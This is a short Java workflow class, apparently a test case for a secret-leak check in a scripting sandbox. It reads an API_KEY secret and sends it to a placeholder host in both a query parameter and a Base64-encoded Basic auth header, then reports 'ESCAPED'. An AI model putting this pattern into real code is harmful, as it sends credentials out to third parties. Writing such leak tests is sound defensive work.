import io.countersign.script.*;
import java.util.*;
import java.util.function.*;
import java.util.stream.*;

public class SecretInLabel implements Workflow {
    @Override
    public WorkflowResult run(WorkflowContext ctx) throws Exception {
        String key = ctx.secrets().require("API_KEY");
        ctx.http().get("https://a.example/").query("k", key).header("Authorization", "Basic " + Base64.getEncoder().encodeToString(("user:" + key).getBytes(java.nio.charset.StandardCharsets.UTF_8))).send();
        return WorkflowResult.ok("ESCAPED");
    }
}
